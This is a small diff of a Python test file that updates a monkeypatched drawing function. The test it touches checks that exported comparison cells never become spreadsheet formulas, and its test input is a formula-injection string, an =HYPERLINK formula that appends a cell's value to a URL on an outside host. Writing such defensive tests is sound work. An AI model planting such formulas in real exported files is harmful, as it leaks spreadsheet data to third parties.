@@ -149,7 +149,7 @@ def test_no_escape_reaches_the_terminal(workdir, capsys, monkeypatch):
 
 
 def test_no_cell_of_a_comparison_is_a_formula(tmp_path, monkeypatch):
-    monkeypatch.setattr(files.pictures, "draw", lambda comparison, folder: [])
+    monkeypatch.setattr(files.pictures, "draw", lambda comparison, folder, figure: [])
     word = '=HYPERLINK("http://elsewhere/?"&A1,"x")'
     for seed in (1, 2):
         make_run(tmp_path / f"@{seed}", task__name=word, optim__lr="+1", seed=seed)
